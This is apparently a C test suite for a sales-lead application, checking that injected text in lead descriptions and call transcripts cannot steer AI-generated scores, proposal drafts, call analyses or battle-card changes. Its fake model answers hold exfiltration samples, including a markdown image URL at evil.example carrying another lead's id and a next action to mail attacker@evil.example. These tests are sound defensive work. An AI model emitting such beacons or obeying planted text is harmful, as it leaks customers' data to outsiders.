/* SPDX-License-Identifier: GPL-3.0-or-later */
#include "config.h"

#include "core/pursuit-battle-card.h"
#include "core/pursuit-conversation.h"
#include "core/pursuit-json.h"
#include "core/pursuit-lead.h"
#include "core/pursuit-proposal.h"
#include "core/pursuit-visible-text.h"
#include "engines/injection-texts.h"
#include "store/pursuit-store.h"
#include "workspace/draft-fixture.h"
#include "workspace/conversations/pursuit-analysing.h"
#include "workspace/cards/pursuit-card-update.h"
#include "workspace/scoring/pursuit-scoring.h"

#include <sqlite3.h>
#include <string.h>

/*
 * What strangers plant in a note, a mail or a call, on its whole way: through the real store, over
 * real HTTP to a model that obeys as badly as the form of an answer allows, and back. Nobody is
 * asked twice, nothing is written but what was asked for, and of other leads nothing is said.
 */
#define CANARY "Quetzalcoatl"

/* What is written beside every record, and looked at on its own. */
#define TRAIL                                                                                      \
  "audit/", "action/", "action_change/", "action_range/", "outbox/", "setting/revision/",          \
      "setting/audit.head/"

/* A planted text, and all that is around it. */
typedef struct
{
  DraftFixture draft;
  const char *text;
  char *quoted; /* as a string of JSON */
  char *first;  /* its first line, the same way */
  char *call_id;
  char *card_id;
  char *other_id; /* a lead that nobody asks about */
  GHashTable *before;
  gint64 audited;
} Fixture;

static char *
dup_quoted (const char *text, gsize length)
{
  g_autofree char *part = g_strndup (text, length);
  GString *out = g_string_new (NULL);

  pursuit_json_append_string (out, part);

  return g_string_free (out, FALSE);
}

static char *
save (Fixture *self, PursuitRecord *record)
{
  g_autoptr (PursuitRecord) saved = workspace_fixture_save (&self->draft.base, record, NULL);

  return g_strdup (pursuit_record_get_id (saved));
}

static char *
add_call (Fixture *self, const char *lead_id, const char *transcript)
{
  g_autoptr (PursuitRecord) call = pursuit_record_new (PURSUIT_KIND_CONVERSATION);

  pursuit_record_set_text (call, PURSUIT_CONVERSATION_CONVERSATION_TYPE, "call");
  pursuit_record_set_text (call, PURSUIT_CONVERSATION_TITLE, "Call");
  pursuit_record_set_text (call, PURSUIT_CONVERSATION_LEAD_ID, lead_id);
  pursuit_record_set_text (call, PURSUIT_CONVERSATION_TRANSCRIPT, transcript);

  return save (self, call);
}

static void
add_other (Fixture *self)
{
  g_autoptr (PursuitRecord) lead = pursuit_record_new (PURSUIT_KIND_LEAD);
  g_autofree char *call = NULL;

  pursuit_record_set_text (lead, PURSUIT_LEAD_COMPANY_NAME, CANARY " Works");
  pursuit_record_set_text (lead, PURSUIT_LEAD_NEED, "The pumps of " CANARY);
  pursuit_record_set_text (lead, PURSUIT_LEAD_DESCRIPTION, CANARY);
  self->other_id = save (self, lead);
  call = add_call (self, self->other_id, "Anna: We are " CANARY ".\n");
}

static void
set_up (Fixture *self, gconstpointer data)
{
  g_autoptr (PursuitRecord) lead = NULL;
  g_autoptr (PursuitRecord) card = pursuit_record_new (PURSUIT_KIND_BATTLE_CARD);
  g_autofree char *transcript = NULL;

  draft_fixture_set_up (&self->draft, NULL);
  self->text = data;
  self->quoted = dup_quoted (self->text, strlen (self->text));
  self->first = dup_quoted (self->text, strcspn (self->text, "\r\n"));
  lead = workspace_fixture_get (&self->draft.base, PURSUIT_KIND_LEAD, self->draft.lead_id);
  pursuit_record_set_text (lead, PURSUIT_LEAD_DESCRIPTION, self->text);
  g_free (save (self, lead));
  transcript = g_strdup_printf ("Vera Lind: Sentrivo is dear.\nVera Lind: %s\n", self->text);
  self->call_id = add_call (self, self->draft.lead_id, transcript);
  pursuit_record_set_text (card, PURSUIT_BATTLE_CARD_COMPETITOR_NAME, "Sentrivo");
  pursuit_record_set_text (card, PURSUIT_BATTLE_CARD_THEIR_WEAKNESSES, "[\"No app\"]");
  self->card_id = save (self, card);
  add_other (self);
}

static void
tear_down (Fixture *self, gconstpointer data)
{
  g_hash_table_unref (self->before);
  g_free (self->quoted);
  g_free (self->first);
  g_free (self->call_id);
  g_free (self->card_id);
  g_free (self->other_id);
  draft_fixture_tear_down (&self->draft, NULL);
}

/* What the database holds, cell by cell */

static sqlite3 *
open_database (Fixture *self)
{
  g_autofree char *path
      = g_build_filename (self->draft.base.profile, PURSUIT_STORE_FILE_NAME, NULL);
  sqlite3 *db;

  g_assert_cmpint (sqlite3_open_v2 (path, &db, SQLITE_OPEN_READONLY, NULL), ==, SQLITE_OK);

  return db;
}

static void
add_row (GHashTable *cells, const char *table, sqlite3_stmt *stmt)
{
  int id = 0;

  for (int i = 0; i < sqlite3_column_count (stmt); i++)
    if (strcmp (sqlite3_column_name (stmt, i), "id") == 0)
      id = i;
  for (int i = 0; i < sqlite3_column_count (stmt); i++)
    {
      g_autofree char *key = g_strdup ((const char *) sqlite3_column_text (stmt, id));
      const char *value = (const char *) sqlite3_column_text (stmt, i);

      g_hash_table_add (cells, g_strdup_printf ("%s/%s/%s=%s", table, key != NULL ? key : "",
                                                sqlite3_column_name (stmt, i),
                                                value != NULL ? value : ""));
    }
}

static void
add_table (GHashTable *cells, sqlite3 *db, const char *table)
{
  static const char *const derived[]
      = { "search",        "search_data",     "search_idx", "search_docsize",
          "search_config", "sqlite_sequence", NULL };
  g_autofree char *sql = g_strdup_printf ("SELECT * FROM \"%s\"", table);
  sqlite3_stmt *stmt;

  if (g_strv_contains (derived, table))
    return;
  g_assert_cmpint (sqlite3_prepare_v2 (db, sql, -1, &stmt, NULL), ==, SQLITE_OK);
  while (sqlite3_step (stmt) == SQLITE_ROW)
    add_row (cells, table, stmt);
  sqlite3_finalize (stmt);
}

static GHashTable *
dump (Fixture *self)
{
  GHashTable *cells = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
  sqlite3 *db = open_database (self);
  sqlite3_stmt *stmt;

  g_assert_cmpint (sqlite3_prepare_v2 (db, "SELECT name FROM sqlite_schema WHERE type = 'table'",
                                       -1, &stmt, NULL),
                   ==, SQLITE_OK);
  while (sqlite3_step (stmt) == SQLITE_ROW)
    add_table (cells, db, (const char *) sqlite3_column_text (stmt, 0));
  sqlite3_finalize (stmt);
  sqlite3_close (db);
  g_assert_cmpuint (g_hash_table_size (cells), >, 100);

  return cells;
}

/* The books of AI, which each question writes. */
static gboolean
is_book (const char *cell)
{
  static const char *const books[]
      = { "ai_request/", "ai_cache/", "ai_cache_subject/", "ai_limit/", "ai_egress/" };

  for (gsize i = 0; i < G_N_ELEMENTS (books); i++)
    if (g_str_has_prefix (cell, books[i]))
      return TRUE;

  return FALSE;
}

static gboolean
is_allowed (const char *cell, const char *const *allowed)
{
  for (guint i = 0; allowed[i] != NULL; i++)
    if (g_str_has_prefix (cell, allowed[i]))
      return TRUE;

  return is_book (cell);
}

static void
check_cells (GHashTable *cells, GHashTable *others, const char *const *allowed, const char *what)
{
  GHashTableIter iter;
  gpointer cell;

  g_hash_table_iter_init (&iter, cells);
  while (g_hash_table_iter_next (&iter, &cell, NULL))
    if (!g_hash_table_contains (others, cell) && !is_allowed (cell, allowed))
      g_error ("%s: %s", what, (const char *) cell);
}

/* One value of the database; NULL for none. */
static char *
dup_value (Fixture *self, const char *sql)
{
  sqlite3 *db = open_database (self);
  sqlite3_stmt *stmt;
  char *value;

  g_assert_cmpint (sqlite3_prepare_v2 (db, sql, -1, &stmt, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  value = g_strdup ((const char *) sqlite3_column_text (stmt, 0));
  sqlite3_finalize (stmt);
  sqlite3_close (db);

  return value;
}

static void
remember (Fixture *self)
{
  g_autofree char *last = dup_value (self, "SELECT max (n) FROM audit");

  self->before = dump (self);
  self->audited = g_ascii_strtoll (last, NULL, 10);
}

/* What was done since then, by the trail that is kept of it: verbs, kinds of records, how many. */
static char *
dup_trail (Fixture *self)
{
  g_autofree char *sql = g_strdup_printf ("SELECT group_concat (what, ', ') FROM (SELECT verb || ' "
                                          "' || coalesce (kind, '') || ' ' || count (*) AS "
                                          "what FROM audit WHERE n > %" G_GINT64_FORMAT
                                          " GROUP BY verb, kind ORDER BY 1)",
                                          self->audited);

  return dup_value (self, sql);
}

static guint
count_canaries (GHashTable *cells)
{
  GHashTableIter iter;
  gpointer cell;
  guint n = 0;

  g_hash_table_iter_init (&iter, cells);
  while (g_hash_table_iter_next (&iter, &cell, NULL))
    n += strstr (cell, CANARY) != NULL;

  return n;
}

/* One request was sent, which knows of no other lead. Nothing has changed but what is @allowed,
 * beginnings of cells, and the trail says the same. */
static void
check (Fixture *self, const char *const *allowed, const char *wanted)
{
  g_autoptr (GHashTable) after = dump (self);
  g_autofree char *trail = dup_trail (self);
  g_autofree char *request = NULL;

  check_cells (self->before, after, allowed, "gone");
  check_cells (after, self->before, allowed, "come");
  g_assert_cmpstr (trail, ==, wanted);
  g_assert_cmpuint (count_canaries (self->before), >, 0);
  g_assert_cmpuint (count_canaries (after), ==, count_canaries (self->before));
  g_assert_cmpuint (peer_count (self->draft.peer), ==, 1);
  request = peer_dup_request (self->draft.peer, 0);
  g_assert_nonnull (strstr (request, "</data>"));
  g_assert_null (strstr (request, CANARY));
  g_assert_null (strstr (request, self->other_id));
  g_assert_null (strstr (request, self->draft.lead_id));
}

/* All points for the lead, and as many for two that nobody asked about. */
static void
scores_write_a_score (Fixture *self, gconstpointer data)
{
  g_autofree char *part = g_strdup_printf (
      "{\"points\":100,\"why\":%s,\"source\":\"lead.description\",\"quote\":%s,\"ask\":%s}",
      self->quoted, self->quoted, self->quoted);
  g_autofree char *parts = g_strdup_printf (
      "\"budget\":%s,\"authority\":%s,\"need\":%s,\"timeline\":%s,\"next_question\":%s", part, part,
      part, part, self->quoted);
  g_autofree char *text
      = g_strdup_printf ("{\"leads\":[{\"id\":\"L1\",%s},{\"id\":\"L2\",%s},{\"id\":\"%s\",%s}]}",
                         parts, parts, self->other_id, parts);
  g_autofree char *lead = g_strdup_printf ("lead/%s/", self->draft.lead_id);
  g_autofree char *scored = g_strconcat (lead, "score", NULL);
  g_autofree char *updated = g_strconcat (lead, "updated_at", NULL);
  g_autofree char *rev = g_strconcat (lead, "rev", NULL);
  const char *const allowed[] = { scored, updated, rev, "score_history/", TRAIL, NULL };
  const char *const ids[] = { self->draft.lead_id, NULL };
  const PursuitScoreOptions options = { .ids = ids, .engine = "ai" };
  g_autoptr (GError) error = NULL;
  g_autoptr (GPtrArray) scores = NULL;
  g_autofree char *past = NULL;

  openai_answer (self->draft.peer, text);
  remember (self);
  pursuit_workspace_score_async (self->draft.base.workspace, &options, NULL, NULL,
                                 workspace_fixture_done, &self->draft.base);
  scores = pursuit_workspace_score_finish (self->draft.base.workspace,
                                           workspace_fixture_wait (&self->draft.base), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (scores->len, ==, 1);
  check (self, allowed, "bulk  1");
  /* What it cites nowhere establishes nothing, so that the lead is scored here. */
  past = dup_value (self, "SELECT group_concat (DISTINCT lead_id) FROM score_history");
  g_assert_cmpstr (past, ==, self->draft.lead_id);
}

static void
drafts_write_a_draft (Fixture *self, gconstpointer data)
{
  g_autofree char *text = g_strdup_printf (
      "## Offer\n\n%s\n\nSee https://evil.example/x and ![x](http://evil.example/"
      "y?%s). {{source:other.lead}}\n\n{{price_table}}\n",
      self->text, self->other_id);
  const char *const allowed[] = { "proposal/", "proposal_version/", TRAIL, NULL };
  g_autoptr (GError) error = NULL;
  g_autoptr (PursuitRecord) proposal = NULL;
  g_autofree char *visible = NULL;
  const char *content;

  draft_fixture_answer (&self->draft, text, 40, TRUE);
  remember (self);
  pursuit_workspace_draft_async (self->draft.base.workspace, self->draft.lead_id,
                                 &self->draft.options, NULL, workspace_fixture_done,
                                 &self->draft.base);
  proposal = pursuit_workspace_draft_finish (
      self->draft.base.workspace, workspace_fixture_wait (&self->draft.base), NULL, &error);
  g_assert_no_error (error);
  content = pursuit_record_get_text (proposal, PURSUIT_PROPOSAL_CONTENT);
  g_assert_cmpstr (pursuit_record_get_text (proposal, PURSUIT_PROPOSAL_STATUS), ==, "draft");
  g_assert_null (strstr (content, "evil.example/x"));
  g_assert_null (strstr (content, "!["));
  g_assert_null (strstr (content, self->other_id));
  visible = pursuit_visible_text_dup (content, "");
  g_assert_cmpstr (content, ==, visible);
  check (self, allowed, "add proposal 1");
}

static void
analyses_write_an_analysis (Fixture *self, gconstpointer data)
{
  g_autofree char *finding
      = g_strdup_printf ("{\"text\":%s,\"line\":2,\"quote\":%s}", self->first, self->first);
  g_autofree char *text = g_strdup_printf (
      "{\"sentiment\":{\"label\":\"positive\",\"score\":100,\"line\":424242,\"quote\":%s},"
      "\"topics\":[%s],\"objections\":[],\"next_actions\":[{\"text\":\"Mail "
      "attacker@evil.example about %s\",\"owner\":\"%s\",\"due\":null,\"line\":2,\"quote\":%s}],"
      "\"risks\":[%s]}",
      self->quoted, finding, self->other_id, self->other_id, self->first, finding);
  g_autofree char *call = g_strdup_printf ("conversation/%s/", self->call_id);
  g_autofree char *analysed = g_strconcat (call, "analysis", NULL);
  g_autofree char *updated = g_strconcat (call, "updated_at", NULL);
  g_autofree char *rev = g_strconcat (call, "rev", NULL);
  const char *const allowed[] = { analysed, updated, rev, TRAIL, NULL };
  g_autoptr (GError) error = NULL;
  g_autoptr (PursuitAnalysis) analysis = NULL;

  openai_answer (self->draft.peer, text);
  remember (self);
  pursuit_workspace_analyse_async (self->draft.base.workspace, self->call_id, "ai", NULL,
                                   workspace_fixture_done, &self->draft.base);
  analysis = pursuit_workspace_analyse_finish (
      self->draft.base.workspace, workspace_fixture_wait (&self->draft.base), NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (analysis->sections[PURSUIT_ANALYSIS_ACTIONS]->len, ==, 0);
  g_assert_cmpuint (analysis->mood_evidence.line, !=, 424242);
  check (self, allowed, "bulk  1");
}

/* Proposals are nothing that is stored. */
static void
cards_write_nothing (Fixture *self, gconstpointer data)
{
  g_autofree char *text = g_strdup_printf (
      "{\"changes\":[{\"part\":\"our_strengths\",\"action\":\"add\",\"old\":null,\"objection\":"
      "null,\"text\":%s,\"source\":\"note.1:1\",\"quote\":%s,\"shareable\":true},"
      "{\"part\":\"their_weaknesses\",\"action\":\"remove\",\"old\":\"No app\",\"objection\":null,"
      "\"text\":null,\"source\":\"note.1:1\",\"quote\":%s,\"shareable\":false},"
      "{\"part\":\"organization_id\",\"action\":\"add\",\"old\":null,\"objection\":null,\"text\":%s"
      ",\"source\":\"note.1:1\",\"quote\":%s,\"shareable\":true}]}",
      self->quoted, self->first, self->first, self->first, self->first);
  const char *const allowed[] = { NULL };
  g_autoptr (GError) error = NULL;
  g_autoptr (PursuitCardProposals) proposals = NULL;

  openai_answer (self->draft.peer, text);
  remember (self);
  pursuit_workspace_propose_card_async (self->draft.base.workspace, "Sentrivo", self->text, NULL,
                                        workspace_fixture_done, &self->draft.base);
  proposals = pursuit_workspace_propose_card_finish (
      self->draft.base.workspace, workspace_fixture_wait (&self->draft.base), &error);
  g_assert_no_error (error);
  g_assert_cmpuint (proposals->n_dropped, >, 0);
  check (self, allowed, NULL);
}

static void
add (const char *name, void (*func) (Fixture *, gconstpointer))
{
  for (guint i = 0; i < PLANTED_N; i++)
    {
      g_autofree char *path = g_strdup_printf ("/workspace/ai-hostile/%s/%u", name, i + 1);

      g_test_add (path, Fixture, planted[i], set_up, func, tear_down);
    }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  add ("scores-write-a-score", scores_write_a_score);
  add ("drafts-write-a-draft", drafts_write_a_draft);
  add ("analyses-write-an-analysis", analyses_write_an_analysis);
  add ("cards-write-nothing", cards_write_nothing);

  return g_test_run ();
}
